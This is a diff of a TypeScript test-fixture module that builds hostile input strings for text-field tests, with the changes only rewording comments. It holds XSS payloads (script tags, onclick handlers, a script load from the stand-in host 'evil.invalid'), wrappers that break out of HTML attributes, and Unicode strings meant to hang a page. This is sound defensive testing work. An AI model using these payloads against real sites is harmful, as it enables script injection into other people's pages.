@@ -1,6 +1,6 @@
 /**
- * Texts that try to run, to call home or to hang a page, for every place where somebody can type.
- * They fit into a template (50,000 characters, no NUL, not blank); `isShort` ones into a name too.
+ * Texts that try to run scripts, to load foreign resources or to hang a page, for every text field. They fit
+ * into a template (50,000 characters, no NUL, not blank); `isShort` ones into a name too.
  */
 export interface HostileText {
   readonly name: string;
@@ -8,15 +8,15 @@ export interface HostileText {
   readonly isShort: boolean;
 }
 
-/** Whoever runs one of the texts raises this number on `window`. */
+/** Name of the counter on `window` that a text raises when its script runs. */
 export const hostileCounter = '__hostileRuns';
-/** No such host exists anywhere (RFC 2606), so a request to it is seen and reaches nobody. */
+/** A host that cannot exist (RFC 2606), so that requests to it are visible and reach no server. */
 export const hostileHost = 'evil.invalid';
 
 const run = `window.${hostileCounter}=(window.${hostileCounter}||0)+1`;
 const away = `https://${hostileHost}`;
 
-/** Each runs or calls home where it is put into a page as HTML. */
+/** HTML that runs a script or loads a resource when inserted into a page. */
 const markup: readonly string[] = [
   `<script>${run}</script>`,
   `<script src=${away}/a.js></script>`,
@@ -64,7 +64,7 @@ const markup: readonly string[] = [
   `<x onclick=${run}>x</x>`,
 ];
 
-/** Ways out of the place a text was meant for. */
+/** Texts that break out of the HTML context they are inserted into. */
 const surroundings: readonly (readonly [name: string, wrap: (text: string) => string])[] = [
   ['as it is', (text) => text],
   ['out of an attribute', (text) => `">${text}`],
@@ -204,7 +204,7 @@ const heavy: Readonly<Record<string, string>> = {
   'stacked accents': `e${times('\u0301', 48_000)}`,
 };
 
-/** At least 300; every name is its own. */
+/** All hostile texts, at least 300 with unique names. */
 export const hostileTexts: readonly HostileText[] = [
   ...markup.flatMap((text, i) =>
     surroundings.map(([name, wrap]) => toHostile(`markup ${i + 1} ${name}`, wrap(text))),
